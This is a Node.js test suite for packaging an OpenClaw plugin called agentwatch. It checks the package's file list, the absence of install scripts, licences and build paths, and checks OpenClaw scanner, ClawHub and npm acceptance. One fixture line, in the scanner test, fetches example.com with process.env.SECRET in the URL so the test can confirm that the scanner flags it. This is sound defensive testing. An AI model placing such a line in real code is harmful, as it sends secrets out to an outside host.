import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { homedir, tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import { after, describe, test } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import { MOST } from "../../scripts/build.mjs";
import { cacheRoot } from "../../scripts/lib/cache.mjs";
import { clawhub as clawhubProgram } from "../../scripts/lib/clawhub.mjs";
import { openclaw } from "../../scripts/lib/openclaw.mjs";
import { SCRIPTS } from "../../scripts/lib/scripts.mjs";
import { OPENCLAW_VERSIONS } from "../../scripts/setup.mjs";
import { skip, tgz, versions } from "./options.mjs";

const [OLDEST = "", NEWEST = ""] = OPENCLAW_VERSIONS;
const PROJECT = fileURLToPath(new URL("../..", import.meta.url));

describe("the package", { skip }, () => {
  const folder = mkdtempSync(join(tmpdir(), "agentwatch-package-"));
  after(() => rmSync(folder, { recursive: true, force: true }));
  if (tgz) execFileSync("tar", ["-xzf", tgz, "-C", folder]);
  const root = join(folder, "package");
  const files = tgz ? filesIn(root) : [];
  const size = (/** @type {string} */ file) => statSync(join(root, file)).size;

  test("contains the shipped files, and no others", () => {
    const dist = ["THIRD-PARTY.txt", "agentwatch.wasm", "prices.br", ...SCRIPTS];
    const beside = ["LICENSE", "README.md", "openclaw.plugin.json", "package.json"];
    assert.deepEqual(files, [...beside, ...dist.map((file) => `dist/${file}`)].sort());
  });

  test("has no dependencies and no install scripts", () => {
    const manifest = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
    for (const field of ["dependencies", "peerDependencies", "optionalDependencies", "bundleDependencies"])
      assert.equal(manifest[field], undefined, field);
    for (const script of ["preinstall", "install", "postinstall", "prepare"])
      assert.equal(manifest.scripts?.[script], undefined, script);
    for (const entry of [...manifest.openclaw.extensions, ...Object.values(manifest.bin ?? {})])
      assert.ok(files.includes(entry.replace("./", "")), `${entry} is in the package`);
  });

  test("has its version in the User-Agent", () => {
    const { version } = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
    const module = readFileSync(join(root, "dist", "agentwatch.wasm"), "latin1");
    assert.ok(module.includes(`agentwatch-openclaw/${version}`), "User-Agent");
  });

  test("has the licences of all compiled crates", () => {
    const text = readFileSync(join(root, "dist", "THIRD-PARTY.txt"), "utf8");
    const names = ["serde", "wasm-bindgen", "gloo-net", "genai-prices", "The Rust standard library"];
    for (const name of names) assert.match(text, new RegExp(`^${name}\\b.*\\n {4}Copyright`, "m"), name);
    assert.match(text, /Permission is hereby granted/);
  });

  test("is small", (t) => {
    const all = files.reduce((sum, file) => sum + size(file), 0);
    t.diagnostic(
      `module ${size("dist/agentwatch.wasm")} bytes, unpacked ${all}, packed ${statSync(tgz ?? "").size}`,
    );
    assert.ok(all <= MOST);
  });

  test("contains no path of the build machine", () => {
    const folders = [PROJECT, homedir(), cacheRoot(), process.env.CARGO_HOME].filter(
      (path) => path !== undefined,
    );
    // A short home folder such as "/root" may be a part of another path.
    const patterns = folders.map(
      (path) => new RegExp(`(?<![\\w.-])${path.replace(/\/$/, "").replaceAll(".", "\\.")}/`),
    );
    for (const file of files) {
      const text = readFileSync(join(root, file), "latin1");
      const found = patterns.flatMap((pattern) => pattern.exec(text)?.[0] ?? []);
      assert.deepEqual(found, [], file);
      assert.doesNotMatch(text, /\.cargo\/registry/, file);
    }
  });

  for (const version of versions) {
    test(`the install scanner of OpenClaw ${version} finds nothing in it`, async () => {
      const scan = await scanner(version);
      const bad = join(folder, `bad-${version}`);
      mkdirSync(bad);
      writeFileSync(join(bad, "index.js"), "fetch(`https://example.com/${process.env.SECRET}`);\n");
      assert.ok((await scan(bad)).critical > 0, "the scanner works");
      const { critical, warn, scannedFiles, findings } = await scan(root);
      assert.equal(scannedFiles, files.filter((file) => file.endsWith(".js")).length, "it read every script");
      assert.deepEqual([critical, warn], [0, 0], JSON.stringify(findings, null, 1));
    });
  }
});

describe("publishing the package", { skip }, () => {
  const folder = mkdtempSync(join(tmpdir(), "agentwatch-publish-"));
  after(() => rmSync(folder, { recursive: true, force: true }));
  const root = join(folder, "package");
  if (tgz) execFileSync("tar", ["-xzf", tgz, "-C", folder]);
  const read = () => JSON.parse(readFileSync(join(root, "package.json"), "utf8"));

  /** Runs ClawHub's command as nobody who is signed in. @param {string[]} args */
  async function clawhub(...args) {
    const { status, stdout, stderr } = spawnSync(
      process.execPath,
      ["--no-warnings", await clawhubProgram(), "package", ...args, "--json"],
      { cwd: folder, encoding: "utf8", env: { PATH: process.env.PATH, HOME: folder }, timeout: 120_000 },
    );
    return { status, stderr, document: stdout.trim() === "" ? undefined : JSON.parse(stdout) };
  }

  /** What a copy of the package has instead. @param {(manifest: any) => void} change */
  function copy(change) {
    const other = mkdtempSync(join(folder, "copy-"));
    cpSync(root, other, { recursive: true });
    const manifest = read();
    change(manifest);
    writeFileSync(join(other, "package.json"), JSON.stringify(manifest));
    return other;
  }

  test("says with which gateways it works: from the oldest that is tested on, built against the newest", () => {
    const { compat, build } = read().openclaw;
    assert.deepEqual(compat, { pluginApi: `>=${OLDEST}` });
    assert.deepEqual(build, { openclawVersion: NEWEST });
  });

  // As ClawHub does it: an older gateway passes over fields of the manifest that newer ones have.
  test(`the Plugin Inspector finds nothing in it against OpenClaw ${NEWEST}`, async () => {
    // The registry is not asked where the gateway is named.
    const against = ["--openclaw", dirname(await openclaw(NEWEST)), "--out", join(folder, "reports")];
    const { status, document, stderr } = await clawhub("validate", root, ...against);
    assert.equal(status, 0, stderr);
    assert.equal(document.targetOpenClaw.version, NEWEST);
    assert.deepEqual([document.status, document.issues], ["pass", []]);
    assert.deepEqual(Object.values(document.summary), [0, 0, 0, 0]);
    const bad = copy(({ openclaw }) => delete openclaw.compat);
    const other = await clawhub("validate", bad, ...against);
    const codes = other.document.issues.map((/** @type {{ code: string }} */ { code }) => code);
    assert.deepEqual(codes, ["package-plugin-api-compat-missing"], "the inspector works");
  });

  test("ClawHub would take it", async () => {
    const source = ["--source-repo", "owner/repository", "--source-commit", "0".repeat(40)];
    const { status, document, stderr } = await clawhub("publish", root, "--dry-run", ...source);
    assert.equal(status, 0, stderr);
    const { name, family, version, files } = document;
    assert.deepEqual([name, family, version], [read().name, "code-plugin", read().version]);
    assert.equal(files, filesIn(root).length);
    for (const field of ["compat", "build"]) {
      const bad = copy(({ openclaw }) => delete openclaw[field]);
      const refused = await clawhub("publish", bad, "--dry-run", ...source);
      assert.notEqual(refused.status, 0, `without ${field}`);
      assert.match(refused.stderr, /pluginApi|openclawVersion/);
    }
  });

  test("npm would take it, and corrects nothing", () => {
    const args = ["publish", String(tgz), "--dry-run", "--ignore-scripts"];
    const { status, stderr } = spawnSync("npm", args, { cwd: folder, encoding: "utf8", timeout: 60_000 });
    assert.equal(status, 0, stderr);
    const warnings = stderr.split("\n").filter((line) => /^npm (warn|error)/i.test(line));
    // A dry run needs nobody who is signed in, and says so.
    assert.deepEqual(
      warnings.filter((line) => !line.includes("requires you to be logged in")),
      [],
    );
    assert.match(stderr, /with tag latest and public access/);
    assert.deepEqual(read().publishConfig, { access: "public", provenance: true });
  });
});

/** @param {string} root @returns {string[]} Paths below it, sorted. */
function filesIn(root) {
  const entries = readdirSync(root, { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => relative(root, join(entry.parentPath, entry.name)))
    .sort();
}

/**
 * The scanner that `openclaw plugins install` runs. Its file and its export have names that the bundler makes anew.
 *
 * @param {string} version
 * @returns {Promise<(folder: string) => Promise<{ scannedFiles: number, critical: number, warn: number, findings: object[] }>>}
 */
async function scanner(version) {
  const dist = join(dirname(await openclaw(version)), "dist");
  for (const file of readdirSync(dist).filter((name) => /^(skill-)?scanner-.*\.m?js$/.test(name))) {
    const alias = /export \{[^}]*\bscanDirectoryWithSummary(?: as (\w+))?/.exec(
      readFileSync(join(dist, file), "utf8"),
    );
    if (alias)
      return (await import(pathToFileURL(join(dist, file)).href))[alias[1] ?? "scanDirectoryWithSummary"];
  }
  throw new Error(`OpenClaw ${version} has no scanner where it was`);
}
